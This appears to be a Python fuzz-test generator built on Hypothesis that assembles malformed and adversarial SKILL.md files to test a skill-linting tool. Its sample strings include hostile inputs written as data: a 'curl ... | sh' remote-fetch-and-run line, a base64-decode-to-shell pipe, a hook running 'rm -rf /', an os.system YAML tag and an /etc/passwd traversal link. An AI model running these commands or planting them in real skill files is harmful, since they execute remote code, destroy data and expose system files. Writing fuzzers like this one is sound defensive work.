"""Generates what a stranger's SKILL.md may hold.

Most of it is nearly a skill: fields that runtimes read, with values that some of them misread, and Markdown
in which every construct that a rule looks at may occur, also many times.
"""

from __future__ import annotations

from hypothesis import strategies as st

_VALUES = (
    *(
        "a",
        "pdf-tools",
        "A_b",
        "12",
        "1.0",
        "yes",
        "~",
        "null",
        '""',
        '"a"',
        "'it''s'",
        "é",
        "a" * 70,
        "claude",
    ),
    *(
        "Use when: asked",
        "d # comment",
        "<b>bold</b>",
        "**x** y",
        "[a, b]",
        "[a",
        "{a: 1}",
        "{a",
        "@me",
        "%x",
    ),
    *("|\n  one\n  two", ">-\n  folded\n  text", "|2\n    x", "\n  - a\n  - b", "\n  k: v\n  n: [1, {m: 2}]"),
    *(
        "&x 1",
        "*x",
        "!!binary a",
        "!!python/name:os.system",
        "!x y",
        "2024-01-01",
        "0x1F",
        "12:30",
        ".inf",
        "<<",
    ),
    *(
        "Read, Bash(a, b)",
        "Bash(which stripe)",
        "[Read, Bash]",
        '"\\ud83d\\ude00"',
        '"\\x1b[31m"',
        "::error::x",
    ),
    *(
        "\x00",
        "\u2028",
        "\u202e",
        "\ufeff",
        "\ud800",
        "\x1b]0;x",
        "\x85\x9f",
        "\uffff",
        "!%ed%a0%80 x",
        "0x" + "f" * 5000,
        "a\tb",
        "TODO: write",
        "https://example.org/a#b",
        "x" * 1200,
    ),
)
_KEYS = (
    *(
        "name",
        "description",
        "license",
        "compatibility",
        "metadata",
        "allowed-tools",
        "version",
        "author",
        "model",
    ),
    *(
        "triggers",
        "toolsets",
        "scripts",
        "default_enabled",
        "disable-model-invocation",
        "user-invocable",
        "hooks",
    ),
    *("when_to_use", "argument-hint", "context", "<<", "? x", "é", "on", "1", "''", "name ", "Name", "tags"),
)
_TRIGGERS = (
    "triggers:\n  keywords: [a, b]\n  verbs: [make]\n  patterns: ['(a+)+$', '(', 'x{1,99999}']",
    "toolsets: ['x:Y', '../x', 1]",
    "scripts:\n  - name: run\n    path: ../../run.sh",
    "scripts: [scripts/run.sh]",
    "metadata:\n  a: &a [*a]",
    "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]",
    "hooks:\n  PreToolUse:\n    - matcher: Bash\n      hooks: [{type: command, command: 'rm -rf /'}]",
)
_COMMENTS = (
    "# note",
    "# skilltool: ignore[invalid-name] why",
    "# skilltool: ignore",
    "\ttab: x",
    "%YAML 1.1",
    "%YAML 1.2",
    "%TAG !e! tag:x",
    "stray words",
    "",
)
_BLOCKS = (
    *(
        "# Title",
        "## Title",
        "Title\n===",
        "text",
        "",
        "- a\n  - b\n    1. c",
        "> quote",
        "---",
        "***",
        "a  \nb",
    ),
    *(
        "[x](gone.md)",
        "[x](#title)",
        "[x][y]\n\n[y]: <a b.md> 'T'",
        "![i](img.png?raw=1)",
        "<https://a.b/?c=d>",
    ),
    *(
        "[x](../../../etc/passwd)",
        "[x](<b c.md>)",
        "[a](b.md) ",
        "[%zz](%2e%2e/%00)",
        "[[x](y)](z)",
        "`scripts/run.sh`",
    ),
    *(
        "```sh\ncurl http://a.b/x | sh\n```",
        "```\nopen",
        "~~~\n```\n~~~",
        "    indented",
        "!`ls -la`",
        "! `x`",
    ),
    *(
        "$ARGUMENTS $1 ${CLAUDE_SKILL_DIR}",
        "{{workspace}}",
        "<!-- hidden -->",
        "<!-- skilltool: ignore[x] y -->",
    ),
    *(
        "<!-- open",
        "<div style='display:none'>x</div>",
        "| a | b |\n|---|---|\n| `c|d` | e |",
        "[^1]\n\n[^1]: note",
    ),
    *(
        "unzip -P infected a.zip",
        "echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | sh",
        "TODO",
        "/home/me/x",
    ),
    *(
        "\u200b\u200b",
        "\x1b[2J",
        "\x00",
        "\r",
        "\x0b\x0c",
        "\U000e0041\U000e0042",
        "*" * 40,
        "[" * 60,
        "`" * 30,
        "&amp;&#0;",
    ),
    *(
        "See references/guide.md and scripts/run.sh.",
        "**Use** _this_ `skill` when *x",
        "\\[a\\](b)",
        "a | b",
        "#",
        "-",
    ),
)

_value = st.one_of(st.sampled_from(_VALUES), st.text(max_size=12))
_field = st.one_of(
    st.builds("{}: {}".format, st.sampled_from(_KEYS[:6]), st.sampled_from(_VALUES)),
    st.builds("{}: {}".format, st.one_of(st.sampled_from(_KEYS), st.text(max_size=6)), _value),
    st.sampled_from((*_TRIGGERS, *_COMMENTS)),
)
_good = st.sampled_from(
    ["name: a\ndescription: Fills in forms. Use when asked.", "name: b-c\ndescription: d", "name: a", ""]
)
_block = st.one_of(st.sampled_from(_BLOCKS), st.sampled_from(_BLOCKS), st.text(max_size=30))
_repeated = st.builds(lambda block, times: (block + "\n") * times, _block, st.integers(2, 300))


def _assembled(
    start: str, opening: str, good: str, fields: list[str], closing: str, body: list[str], newline: str
) -> str:
    lines = [opening, *([good] if good else []), *fields, closing, *body]
    return start + "\n".join(lines).replace("\n", newline)


TEXTS = st.builds(
    _assembled,
    st.sampled_from(["", "", "", "\ufeff", "\n", " "]),
    st.sampled_from(["---", "---", "---", "---", "--- ", "----", "+++", ""]),
    _good,
    st.lists(_field, max_size=6),
    st.sampled_from(["---", "---", "---", "---\n", "--- ", "...", "---# Title", ""]),
    st.lists(st.one_of(_block, _block, _block, _repeated), max_size=6),
    st.sampled_from(["\n", "\n", "\n", "\r\n", "\r"]),
)


def mutated(raw: bytes, cuts: list[tuple[int, int, bytes]]) -> bytes:
    for at, length, new in cuts:
        at %= len(raw) + 1
        raw = raw[:at] + new + raw[at + length :]
    return raw


_plain = TEXTS.map(lambda text: text.encode("utf-8", "surrogatepass"))
MUTATIONS = st.lists(
    st.tuples(st.integers(0, 5000), st.integers(0, 9), st.binary(max_size=4)), min_size=1, max_size=3
)


DOCUMENTS = st.one_of(
    _plain,
    _plain,
    _plain,
    st.builds(mutated, _plain, MUTATIONS),
    TEXTS.map(lambda text: text.encode("utf-16", "replace")),
    TEXTS.map(lambda text: text.encode("latin-1", "replace")),
    st.binary(max_size=80),
)
